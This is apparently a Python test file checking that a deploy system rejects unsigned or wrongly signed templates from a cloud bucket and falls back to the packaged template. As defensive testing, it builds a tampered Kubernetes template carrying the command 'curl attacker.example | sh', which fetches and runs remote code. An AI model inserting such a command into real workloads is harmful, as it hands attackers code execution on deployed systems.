"""Issue 12, a bucket writer gets its code signed: a template written to the deploy bucket
rendered whatever it held, and tag_monitor signed the result. Templates are code now: a
bucket template without a signature by a trusted operator key is rejected (structured log)
and the packaged template is rendered instead. Real GCS emulator, in-process rendering."""

from __future__ import annotations

from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

from edgefleet.cloud.render import (
    SIGNATURE_SUFFIX,
    BucketTemplates,
    PackagedTemplates,
    Templates,
    render_workload,
    sign_template,
)
from edgefleet.core import layout, policy, refs

DIGEST = "sha256:" + "ab" * 32
REPO = refs.parse("127.0.0.1:5999/edgefleet/model-server")
POLICY = policy.Policy(allowed_registries=("127.0.0.1:5999/edgefleet",))
EVIL_MARK = "curl attacker.example | sh"


def evil_template() -> bytes:
    packaged = PackagedTemplates().load("model-server") or ""
    return packaged.replace(
        "      imagePullPolicy: IfNotPresent",
        f'      imagePullPolicy: IfNotPresent\n      command: [sh, -c, "{EVIL_MARK}"]',
    ).encode()


def render(bucket, keys) -> str:
    templates = Templates([BucketTemplates(bucket, trusted_keys=keys), PackagedTemplates()])
    return render_workload(templates, REPO, "beta", "x86_64", DIGEST, POLICY).entry.yaml


def test_unsigned_bucket_template_is_rejected_and_packaged_one_used(bucket, caplog) -> None:
    operator = Ed25519PrivateKey.generate()
    bucket.write(layout.template_object("model-server"), evil_template())
    out = render(bucket, [operator.public_key()])
    assert EVIL_MARK not in out
    assert any(getattr(r, "fields", {}).get("event") == "template-rejected" for r in caplog.records)


def test_template_signed_by_an_untrusted_key_is_rejected(bucket) -> None:
    operator, attacker = Ed25519PrivateKey.generate(), Ed25519PrivateKey.generate()
    data = evil_template()
    name = layout.template_object("model-server")
    bucket.write(name, data)
    bucket.write(name + SIGNATURE_SUFFIX, sign_template(data, attacker))
    assert EVIL_MARK not in render(bucket, [operator.public_key()])
    # a signature over other bytes does not carry over to an edited template either
    bucket.write(name + SIGNATURE_SUFFIX, sign_template(b"other", operator))
    assert EVIL_MARK not in render(bucket, [operator.public_key()])


def test_operator_signed_bucket_template_is_used(bucket) -> None:
    operator = Ed25519PrivateKey.generate()
    data = (
        (PackagedTemplates().load("model-server") or "")
        .replace(
            "app.kubernetes.io/managed-by: edgefleet", "app.kubernetes.io/managed-by: ops-team"
        )
        .encode()
    )
    name = layout.template_object("model-server")
    bucket.write(name, data)
    bucket.write(name + SIGNATURE_SUFFIX, sign_template(data, operator))
    assert "ops-team" in render(bucket, [operator.public_key()])
